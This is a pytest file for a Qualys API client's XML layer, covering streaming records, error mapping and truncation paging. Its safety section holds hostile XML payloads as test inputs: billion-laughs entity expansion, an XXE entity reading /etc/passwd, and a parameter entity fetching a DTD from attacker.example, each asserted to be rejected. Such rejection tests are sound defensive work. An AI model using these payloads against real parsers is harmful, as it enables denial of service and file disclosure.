"""Tests for qualys_core.http.xml: safety, incremental records, SIMPLE_RETURN, truncation paging."""

from __future__ import annotations

from collections.abc import AsyncIterator, Mapping
from contextlib import aclosing
from pathlib import Path
from xml.etree.ElementTree import Element

import pytest

from qualys_core.errors import (
    AuthError,
    BadRequest,
    BadResponse,
    NotLicensed,
    RateLimited,
    Unavailable,
)
from qualys_core.http.xml import (
    RecordStream,
    SimpleReturn,
    Truncation,
    error_for_simple_return,
    iter_records,
    iter_truncated,
    next_page_params,
    parse_document,
    parse_simple_return,
    raise_for_simple_return,
)

DETECTION_DTD = (
    "<!DOCTYPE HOST_LIST_VM_DETECTION_OUTPUT SYSTEM "
    '"https://qualysapi.qualys.com/api/2.0/fo/asset/host/vm/detection/'
    'host_list_vm_detection_output.dtd">'
)
DETECTION_URL = "https://qualysapi.example/api/2.0/fo/asset/host/vm/detection/"


def detection_page(host_ids: list[int], warning: str = "") -> bytes:
    """A §6d-shaped detection page holding one DETECTION per host."""
    hosts = "".join(
        f"""
      <HOST>
        <ID>{host_id}</ID>
        <IP>10.0.0.{host_id % 250}</IP>
        <DNS><![CDATA[host{host_id}.corp.example]]></DNS>
        <DETECTION_LIST>
          <DETECTION>
            <QID>38739</QID>
            <SEVERITY>5</SEVERITY>
            <STATUS>Active</STATUS>
            <QDS severity="HIGH">82</QDS>
          </DETECTION>
        </DETECTION_LIST>
      </HOST>"""
        for host_id in host_ids
    )
    return f"""<?xml version="1.0" encoding="UTF-8"?>
{DETECTION_DTD}
<HOST_LIST_VM_DETECTION_OUTPUT>
  <RESPONSE>
    <DATETIME>2026-01-15T10:00:00Z</DATETIME>
    <HOST_LIST>{hosts}
    </HOST_LIST>{warning}
  </RESPONSE>
</HOST_LIST_VM_DETECTION_OUTPUT>
""".encode()


def truncation_warning(query: str | None) -> str:
    url = "" if query is None else f"<URL><![CDATA[{DETECTION_URL}?{query}]]></URL>"
    return f"""
    <WARNING>
      <CODE>1980</CODE>
      <TEXT>1000 record limit exceeded. Use URL to get next batch of results.</TEXT>
      {url}
    </WARNING>"""


def simple_return(code: str | None, text: str) -> bytes:
    code_xml = f"<CODE>{code}</CODE>" if code else ""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE SIMPLE_RETURN SYSTEM "https://qualysapi.qualys.com/api/2.0/simple_return.dtd">
<SIMPLE_RETURN>
  <RESPONSE>
    <DATETIME>2026-01-15T10:00:00Z</DATETIME>
    {code_xml}
    <TEXT>{text}</TEXT>
  </RESPONSE>
</SIMPLE_RETURN>
""".encode()


def chunked(data: bytes, size: int = 7) -> list[bytes]:
    return [data[i : i + size] for i in range(0, len(data), size)]


async def stream_of(data: bytes, size: int = 7) -> AsyncIterator[bytes]:
    for chunk in chunked(data, size):
        yield chunk


async def collect_ids_into(ids: list[str], records: AsyncIterator[Element]) -> list[str]:
    """Append each record's ID to `ids` as it arrives, so ids seen before an error are kept."""
    async for record in records:
        ids.append(record.findtext("ID") or "")
    return ids


async def collect_ids(records: AsyncIterator[Element]) -> list[str]:
    return await collect_ids_into([], records)


# --- safety ------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE HOST_LIST_OUTPUT [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<HOST_LIST_OUTPUT><RESPONSE><TEXT>&xxe;</TEXT></RESPONSE></HOST_LIST_OUTPUT>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE X [<!ENTITY % remote SYSTEM "https://attacker.example/evil.dtd"> %remote;]>
<X/>
"""


def test_billion_laughs_is_rejected() -> None:
    with pytest.raises(BadResponse, match="EntitiesForbidden"):
        parse_document(BILLION_LAUGHS)


def test_external_entity_is_rejected() -> None:
    with pytest.raises(BadResponse, match="file:///etc/passwd") as excinfo:
        parse_document(EXTERNAL_ENTITY)
    assert "root:" not in str(excinfo.value)


def test_parameter_entity_is_rejected() -> None:
    with pytest.raises(BadResponse, match="EntitiesForbidden"):
        parse_document(PARAMETER_ENTITY)


async def test_entities_rejected_when_streamed_in_small_chunks() -> None:
    with pytest.raises(BadResponse, match="EntitiesForbidden"):
        await collect_ids(iter_records(stream_of(BILLION_LAUGHS, 5), {"HOST"}))


def test_doctype_with_system_dtd_url_parses() -> None:
    root = parse_document(detection_page([1001]))
    assert root.tag == "HOST_LIST_VM_DETECTION_OUTPUT"
    assert root.findtext("RESPONSE/HOST_LIST/HOST/ID") == "1001"
    assert root.findtext("RESPONSE/HOST_LIST/HOST/DNS") == "host1001.corp.example"


def test_system_dtd_is_never_read(tmp_path: Path) -> None:
    # If the external DTD were loaded, &greeting; would expand to "expanded".
    dtd = tmp_path / "local.dtd"
    dtd.write_text('<!ENTITY greeting "expanded">')
    document = f'<!DOCTYPE X SYSTEM "{dtd.as_uri()}"><X>&greeting;</X>'.encode()
    with pytest.raises(BadResponse, match="undefined entity"):
        parse_document(document)
    assert parse_document(f'<!DOCTYPE X SYSTEM "{dtd.as_uri()}"><X>ok</X>'.encode()).text == "ok"


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(detection_page([1001])[:-60], id="cut-mid-document"),
        pytest.param(b"", id="empty"),
        pytest.param(b"<A><B></A>", id="mismatched-tag"),
        pytest.param(b"<A/><B/>", id="two-roots"),
        pytest.param(b"<A>\xff\xfe</A>", id="invalid-utf8"),
    ],
)
def test_malformed_or_truncated_document_is_bad_response(document: bytes) -> None:
    with pytest.raises(BadResponse, match="malformed or unsafe XML"):
        parse_document(document)


async def test_truncated_stream_raises_after_yielding_complete_records() -> None:
    body = detection_page([1, 2, 3])
    cut = body[: body.index(b"<ID>3</ID>")]
    seen: list[str] = []
    with pytest.raises(BadResponse, match="no element found"):
        await collect_ids_into(seen, iter_records(stream_of(cut), {"HOST"}))
    assert seen == ["1", "2"]


def test_feed_after_failure_is_a_programming_error() -> None:
    stream = RecordStream({"HOST"})
    with pytest.raises(BadResponse):
        stream.feed(b"<A></B>")
    with pytest.raises(RuntimeError, match="closed or has failed"):
        stream.feed(b"<A/>")


# --- RecordStream ------------------------------------------------------------------------------


def test_records_are_detached_as_they_close() -> None:
    body = detection_page([1001, 1002, 1003], truncation_warning("action=list&id_min=1004"))
    stream = RecordStream({"HOST"})
    first_cut = body.index(b"</HOST>") + len(b"</HOST>")
    stream.feed(body[:first_cut])

    records = stream.drain()
    assert [r.findtext("ID") for r in records] == ["1001"]
    assert stream.drain() == []
    root = stream.root
    assert root is not None
    assert stream.root_tag == "HOST_LIST_VM_DETECTION_OUTPUT"
    assert root.findall(".//HOST") == []

    stream.feed(body[first_cut:])
    stream.close()
    later = stream.drain()
    assert [r.findtext("ID") for r in later] == ["1002", "1003"]
    assert root.find("RESPONSE/HOST_LIST") is not None
    assert root.findall(".//HOST") == []
    assert len(root.find("RESPONSE/HOST_LIST") or []) == 0
    assert root.findtext("RESPONSE/DATETIME") == "2026-01-15T10:00:00Z"
    # The record keeps its whole subtree, attributes included.
    detection = later[0].find("DETECTION_LIST/DETECTION")
    assert detection is not None
    assert detection.findtext("QID") == "38739"
    qds = detection.find("QDS")
    assert qds is not None
    assert (qds.text, qds.attrib) == ("82", {"severity": "HIGH"})
    assert stream.warning == Truncation(
        code="1980",
        text="1000 record limit exceeded. Use URL to get next batch of results.",
        url=f"{DETECTION_URL}?action=list&id_min=1004",
    )
    assert stream.simple_return is None


def test_nested_record_tags_stay_inside_the_outer_record() -> None:
    stream = RecordStream({"HOST", "DETECTION"})
    stream.feed(detection_page([7, 8]))
    stream.close()
    records = stream.drain()
    assert [r.tag for r in records] == ["HOST", "HOST"]
    assert [r.findtext("DETECTION_LIST/DETECTION/QID") for r in records] == ["38739", "38739"]


def test_warning_inside_a_record_is_not_the_document_warning() -> None:
    doc = b"""<OUT><RESPONSE><LIST>
      <HOST><ID>1</ID><WARNING><CODE>1980</CODE><TEXT>inner</TEXT></WARNING></HOST>
    </LIST></RESPONSE></OUT>"""
    stream = RecordStream({"HOST"})
    stream.feed(doc)
    stream.close()
    assert stream.warning is None
    assert stream.drain()[0].findtext("WARNING/TEXT") == "inner"


def test_warning_without_url() -> None:
    stream = RecordStream({"HOST"})
    stream.feed(detection_page([1], truncation_warning(None)))
    stream.close()
    assert stream.warning == Truncation(
        code="1980",
        text="1000 record limit exceeded. Use URL to get next batch of results.",
        url=None,
    )


async def test_iter_records_streams_records_before_the_body_ends() -> None:
    body = detection_page([11, 12, 13])
    events: list[str] = []

    async def chunks() -> AsyncIterator[bytes]:
        for i, chunk in enumerate(chunked(body)):
            events.append(f"chunk{i}")
            yield chunk

    async for record in iter_records(chunks(), {"HOST"}):
        events.append(f"host{record.findtext('ID')}")

    total_chunks = len(chunked(body))
    assert [e for e in events if e.startswith("host")] == ["host11", "host12", "host13"]
    assert events.index("host11") < events.index(f"chunk{total_chunks - 1}")
    assert events.index("host12") < events.index(f"chunk{total_chunks - 1}")


# --- SIMPLE_RETURN -----------------------------------------------------------------------------


def test_parse_simple_return_failure() -> None:
    root = parse_document(simple_return("1965", "This API cannot be run again for 37 seconds."))
    assert parse_simple_return(root) == SimpleReturn(
        code="1965",
        text="This API cannot be run again for 37 seconds.",
        datetime="2026-01-15T10:00:00Z",
    )


def test_success_simple_return_is_not_an_error() -> None:
    doc = b"""<?xml version="1.0" encoding="UTF-8" ?>
<SIMPLE_RETURN><RESPONSE><DATETIME>2026-01-15T10:00:00Z</DATETIME>
  <TEXT>New report launched</TEXT>
  <ITEM_LIST><ITEM><KEY>ID</KEY><VALUE>4242</VALUE></ITEM></ITEM_LIST>
</RESPONSE></SIMPLE_RETURN>"""
    sr = parse_simple_return(parse_document(doc))
    assert sr == SimpleReturn(
        code=None, text="New report launched", datetime="2026-01-15T10:00:00Z"
    )
    raise_for_simple_return(sr, http_status=200, path="/api/2.0/fo/report/")


async def test_success_simple_return_streams_without_error() -> None:
    doc = simple_return(None, "New report launched")
    assert await collect_ids(iter_records(stream_of(doc), {"HOST"})) == []


def test_parse_simple_return_ignores_other_documents() -> None:
    assert parse_simple_return(parse_document(detection_page([1]))) is None


async def test_iter_records_raises_simple_return_failure() -> None:
    doc = simple_return("1965", "This API cannot be run again for another 37 seconds.")
    with pytest.raises(RateLimited) as excinfo:
        await collect_ids(
            iter_records(stream_of(doc), {"HOST"}, http_status=409, path="/api/2.0/fo/x/")
        )
    error = excinfo.value
    assert error.code == "1965"
    assert error.http_status == 409
    assert error.path == "/api/2.0/fo/x/"
    assert error.retry_after == 37.0
    assert "cannot be run again for another 37 seconds" in str(error)


CODE_TABLE = [
    *[(code, None, BadRequest) for code in ("1901", "1903", "1904", "1905", "1907", "1908")],
    ("1922", None, BadRequest),
    *[(code, None, RateLimited) for code in ("1920", "1959", "1960", "1965", "1966")],
    *[(code, None, AuthError) for code in ("2000", "2001", "2002", "2003")],
    # The Qualys code wins over the HTTP status.
    ("1965", 400, RateLimited),
    ("1901", 409, BadRequest),
    ("2003", 409, AuthError),
]


@pytest.mark.parametrize(("code", "http_status", "expected"), CODE_TABLE)
def test_error_for_simple_return_by_code(
    code: str, http_status: int | None, expected: type[Exception]
) -> None:
    sr = SimpleReturn(code=code, text=f"Qualys says {code}", datetime=None)
    error = error_for_simple_return(sr, http_status=http_status, path="/api/2.0/fo/scan/")
    assert type(error) is expected
    assert error.code == code
    assert error.http_status == http_status
    assert error.path == "/api/2.0/fo/scan/"
    assert error.message == f"Qualys says {code}"


STATUS_TABLE = [
    (401, "Bad login", AuthError),
    (403, "Forbidden", AuthError),
    (400, "Invalid parameter", BadRequest),
    (409, "Some other conflict", BadRequest),
    (429, "Too many", RateLimited),
    (404, "The CertView module is NOT ENABLED for this subscription", NotLicensed),
    (404, "Module not licensed", NotLicensed),
    (404, "Subscription is not subscribed to this API", NotLicensed),
    (404, "User does not have access to this API", NotLicensed),
    (404, "Resource not found", BadRequest),
    (500, "Internal error", Unavailable),
    (503, "Maintenance", Unavailable),
    (200, "Odd", BadResponse),
    (None, "Odd", BadResponse),
]


@pytest.mark.parametrize(("http_status", "text", "expected"), STATUS_TABLE)
def test_error_for_simple_return_by_status(
    http_status: int | None, text: str, expected: type[Exception]
) -> None:
    sr = SimpleReturn(code="999", text=text, datetime=None)
    error = error_for_simple_return(sr, http_status=http_status, path=None)
    assert type(error) is expected
    assert error.code == "999"
    assert error.http_status == http_status
    assert error.message == text


def test_registration_error_has_specific_message_and_hint() -> None:
    error = error_for_simple_return(
        SimpleReturn(code="2003", text="", datetime=None), http_status=409, path=None
    )
    assert isinstance(error, AuthError)
    assert error.message == "Registration must be completed before API requests will be processed"
    assert "registration" in error.hint


def test_rate_limit_without_wait_text_has_no_retry_after() -> None:
    error = error_for_simple_return(
        SimpleReturn(code="1960", text="Concurrency limit reached", datetime=None),
        http_status=409,
        path=None,
    )
    assert isinstance(error, RateLimited)
    assert error.retry_after is None


def test_error_without_text_names_the_code() -> None:
    error = error_for_simple_return(
        SimpleReturn(code="1905", text="", datetime=None), http_status=400, path=None
    )
    assert error.message == "Qualys returned error code 1905"


# --- truncation paging -------------------------------------------------------------------------


def test_next_page_params_from_url() -> None:
    warning = Truncation(
        code="1980",
        text="limit",
        url=f"{DETECTION_URL}?action=list&show_qds=1&id_min=1002&qds_min=",
    )
    last = {"action": "list", "severities": "5", "show_qds": "1"}
    assert next_page_params(warning, last) == {
        "action": "list",
        "severities": "5",
        "show_qds": "1",
        "id_min": "1002",
        "qds_min": "",
    }
    assert last == {"action": "list", "severities": "5", "show_qds": "1"}


def test_next_page_params_url_overrides_last_params() -> None:
    warning = Truncation(code="1980", text="", url=f"{DETECTION_URL}?action=list&id_min=2000")
    assert next_page_params(warning, {"action": "list", "id_min": "1002"}) == {
        "action": "list",
        "id_min": "2000",
    }


@pytest.mark.parametrize(
    "warning",
    [
        Truncation(code="1980", text="limit", url=None),
        Truncation(code="1980", text="limit", url=DETECTION_URL),
        Truncation(code="1234", text="other", url=f"{DETECTION_URL}?id_min=5"),
    ],
    ids=["no-url", "url-without-query", "not-1980"],
)
def test_next_page_params_none(warning: Truncation) -> None:
    assert next_page_params(warning, {"action": "list"}) is None


class FakeFO:
    """A fake streaming fetch: serves the given bodies in 7-byte chunks, recording each call."""

    def __init__(self, bodies: list[bytes]) -> None:
        self.bodies = list(bodies)
        self.calls: list[dict[str, str]] = []
        self.events: list[str] = []
        self.closed = 0

    async def __call__(self, params: Mapping[str, str]) -> AsyncIterator[bytes]:
        self.calls.append(dict(params))
        page = len(self.calls)
        body = self.bodies.pop(0)
        try:
            for i, chunk in enumerate(chunked(body)):
                self.events.append(f"p{page}c{i}")
                yield chunk
        finally:
            self.closed += 1


async def test_iter_truncated_three_pages_from_warning_urls() -> None:
    fo = FakeFO(
        [
            detection_page([1001, 1002], truncation_warning("action=list&show_qds=1&id_min=1003")),
            detection_page([1003, 1004], truncation_warning("action=list&show_qds=1&id_min=1005")),
            detection_page([1005]),
        ]
    )
    params = {"action": "list", "show_qds": "1", "severities": "5"}
    ids: list[str] = []
    async for record in iter_truncated(fo, params, {"HOST"}):
        ids.append(record.findtext("ID") or "")
        fo.events.append(f"host{ids[-1]}")

    assert ids == ["1001", "1002", "1003", "1004", "1005"]
    assert fo.calls == [
        {"action": "list", "show_qds": "1", "severities": "5"},
        {"action": "list", "show_qds": "1", "severities": "5", "id_min": "1003"},
        {"action": "list", "show_qds": "1", "severities": "5", "id_min": "1005"},
    ]
    assert params == {"action": "list", "show_qds": "1", "severities": "5"}
    assert fo.closed == 3
    # Incremental: each host is handed out while its page is still being received.
    page1_chunks = [e for e in fo.events if e.startswith("p1c")]
    assert fo.events.index("host1001") < fo.events.index(page1_chunks[-1])
    page3_chunks = [e for e in fo.events if e.startswith("p3c")]
    assert fo.events.index("host1005") < fo.events.index(page3_chunks[-1])


async def test_iter_truncated_falls_back_to_max_id_plus_one() -> None:
    fo = FakeFO(
        [
            detection_page([1001, 1007, 1003], truncation_warning(None)),
            detection_page([1008, 1010], truncation_warning(None)),
            detection_page([1011]),
        ]
    )
    ids = await collect_ids(iter_truncated(fo, {"action": "list"}, {"HOST"}))
    assert ids == ["1001", "1007", "1003", "1008", "1010", "1011"]
    assert fo.calls == [
        {"action": "list"},
        {"action": "list", "id_min": "1008"},
        {"action": "list", "id_min": "1011"},
    ]


async def test_iter_truncated_custom_id_field() -> None:
    fo = FakeFO(
        [
            b"<OUT><LIST><VULN><QID>5</QID></VULN><VULN><QID>9</QID></VULN></LIST>"
            b"<WARNING><CODE>1980</CODE><TEXT>more</TEXT></WARNING></OUT>",
            b"<OUT><LIST><VULN><QID>12</QID></VULN></LIST></OUT>",
        ]
    )
    records = [r async for r in iter_truncated(fo, {"action": "list"}, {"VULN"}, id_field="QID")]
    assert [r.findtext("QID") for r in records] == ["5", "9", "12"]
    assert fo.calls[1] == {"action": "list", "id_min": "10"}


async def test_iter_truncated_no_progress_guard() -> None:
    same = truncation_warning("action=list&id_min=1003")
    fo = FakeFO([detection_page([1001, 1002], same), detection_page([1001, 1002], same)])
    ids: list[str] = []
    with pytest.raises(BadResponse, match="made no progress"):
        await collect_ids_into(ids, iter_truncated(fo, {"action": "list"}, {"HOST"}))
    assert ids == ["1001", "1002", "1001", "1002"]
    assert len(fo.calls) == 2


async def test_iter_truncated_stops_on_page_without_records() -> None:
    fo = FakeFO([detection_page([], truncation_warning("action=list&id_min=1"))])
    assert await collect_ids(iter_truncated(fo, {"action": "list"}, {"HOST"})) == []
    assert len(fo.calls) == 1


async def test_iter_truncated_stops_after_max_pages() -> None:
    fo = FakeFO(
        [
            detection_page([1], truncation_warning("action=list&id_min=2")),
            detection_page([2], truncation_warning("action=list&id_min=3")),
            detection_page([3]),
        ]
    )
    ids = await collect_ids(iter_truncated(fo, {"action": "list"}, {"HOST"}, max_pages=2))
    assert ids == ["1", "2"]
    assert len(fo.calls) == 2


async def test_iter_truncated_ignores_non_truncation_warning() -> None:
    other = "<WARNING><CODE>1234</CODE><TEXT>note</TEXT><URL>https://x/?id_min=9</URL></WARNING>"
    fo = FakeFO([detection_page([1], other)])
    assert await collect_ids(iter_truncated(fo, {"action": "list"}, {"HOST"})) == ["1"]
    assert len(fo.calls) == 1


async def test_iter_truncated_without_url_or_ids_is_bad_response() -> None:
    fo = FakeFO([b"<OUT><HOST><NAME>a</NAME></HOST><WARNING><CODE>1980</CODE></WARNING></OUT>"])
    with pytest.raises(BadResponse, match="no next-page URL and no ID values"):
        await collect_ids(iter_truncated(fo, {"action": "list"}, {"HOST"}))


async def test_iter_truncated_empty_body_means_no_records() -> None:
    fo = FakeFO([b""])
    assert await collect_ids(iter_truncated(fo, {"action": "list"}, {"HOST"})) == []
    assert len(fo.calls) == 1


async def test_iter_truncated_raises_simple_return_failure() -> None:
    fo = FakeFO([simple_return("1904", "Invalid value for parameter severities")])
    with pytest.raises(BadRequest, match="Invalid value for parameter severities"):
        await collect_ids(iter_truncated(fo, {"action": "list"}, {"HOST"}))


async def test_iter_truncated_closes_the_stream_when_consumer_stops_early() -> None:
    fo = FakeFO([detection_page([1, 2, 3], truncation_warning("action=list&id_min=4"))])
    async with aclosing(iter_truncated(fo, {"action": "list"}, {"HOST"})) as records:
        async for record in records:
            assert record.findtext("ID") == "1"
            break
    assert fo.closed == 1
    assert len(fo.calls) == 1
